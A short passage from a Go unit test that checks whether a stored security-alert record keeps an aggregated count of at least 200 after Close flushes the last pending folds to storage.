	if err != nil || len(rows) != 1 {
		t.Fatalf("stored: %v, %v", rows, err)
	}
	var a apitype.SecurityAlert
	json.Unmarshal(rows[0].JSON, &a)
	if a.Count < 200 {
		t.Errorf("stored count %d: the last folds were not written on Close", a.Count)
	}
}
